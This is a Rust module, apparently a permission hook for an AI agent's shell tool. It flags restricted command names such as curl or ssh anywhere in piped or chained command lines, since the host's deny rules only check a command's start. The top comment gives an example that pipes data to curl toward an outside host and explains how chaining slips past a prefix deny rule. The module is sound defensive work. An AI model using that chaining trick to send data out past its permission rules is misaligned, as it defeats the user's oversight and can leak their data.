//! Restricted-command detection across pipes and chains.
//!
//! The host only compares its permission lists against the *start* of a
//! command line, so `echo data | curl -d @- https://example.com` sails past a
//! `Bash(curl:*)` deny rule. [`RestrictedMatcher`] checks every sub-command
//! produced by [`crate::split::split_command`] against every restricted name.
//! Hits after an operator are reported as chain evasion; hits on the first
//! sub-command are reported too, since the host's own check is not something
//! this gate can verify.

use regex::Regex;

use crate::split::{Operator, SubCommand};

/// Where a restricted name came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum RestrictionSource {
    /// `permissions.deny` in the settings file.
    Deny,
    /// `permissions.ask` in the settings file.
    Ask,
    /// Built-in fallback list.
    Builtin,
}

impl RestrictionSource {
    #[must_use]
    pub const fn label(self) -> &'static str {
        match self {
            Self::Deny => "deny",
            Self::Ask => "ask",
            Self::Builtin => "builtin",
        }
    }
}

/// A command name that must not appear anywhere in a command line.
#[derive(Debug, Clone)]
pub struct RestrictedPattern {
    name: String,
    regex: Regex,
    source: RestrictionSource,
}

impl RestrictedPattern {
    /// Build a matcher for `name`. Returns `None` for empty names.
    ///
    /// The name must stand alone: it may not be glued to identifier
    /// characters (`\w` or `-`) on either side, so `ssh` does not match
    /// `ssh-keygen` and `curl` does not match `libcurl`. Matching is
    /// case-sensitive.
    #[must_use]
    pub fn new(name: &str, source: RestrictionSource) -> Option<Self> {
        let name = name.trim();
        if name.is_empty() {
            return None;
        }
        let pattern = format!(r"(?:^|[^\w-]){}(?:[^\w-]|$)", regex::escape(name));
        let regex = Regex::new(&pattern).ok()?;
        Some(Self {
            name: name.to_string(),
            regex,
            source,
        })
    }

    #[must_use]
    pub fn name(&self) -> &str {
        &self.name
    }

    #[must_use]
    pub const fn source(&self) -> RestrictionSource {
        self.source
    }

    #[must_use]
    pub fn is_match(&self, text: &str) -> bool {
        self.regex.is_match(text)
    }
}

/// A restricted name found in one sub-command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RestrictedHit {
    pub name: String,
    /// Operator in front of the sub-command that matched.
    pub operator: Operator,
}

impl RestrictedHit {
    /// `true` when the host's prefix matcher could not have seen this command.
    #[must_use]
    pub const fn is_chained(&self) -> bool {
        self.operator.is_chained()
    }
}

/// Matches a fixed set of restricted names against split command lines.
#[derive(Debug, Clone, Default)]
pub struct RestrictedMatcher {
    patterns: Vec<RestrictedPattern>,
}

impl RestrictedMatcher {
    #[must_use]
    pub const fn new(patterns: Vec<RestrictedPattern>) -> Self {
        Self { patterns }
    }

    #[must_use]
    pub fn patterns(&self) -> &[RestrictedPattern] {
        &self.patterns
    }

    /// Every (sub-command, pattern) hit, in sub-command order then pattern order.
    #[must_use]
    pub fn find(&self, subcommands: &[SubCommand<'_>]) -> Vec<RestrictedHit> {
        let mut hits = Vec::new();
        for sub in subcommands {
            for pattern in &self.patterns {
                if pattern.is_match(sub.text) {
                    tracing::trace!(name = pattern.name(), operator = %sub.operator, "restricted command hit");
                    hits.push(RestrictedHit {
                        name: pattern.name().to_string(),
                        operator: sub.operator,
                    });
                }
            }
        }
        hits
    }
}
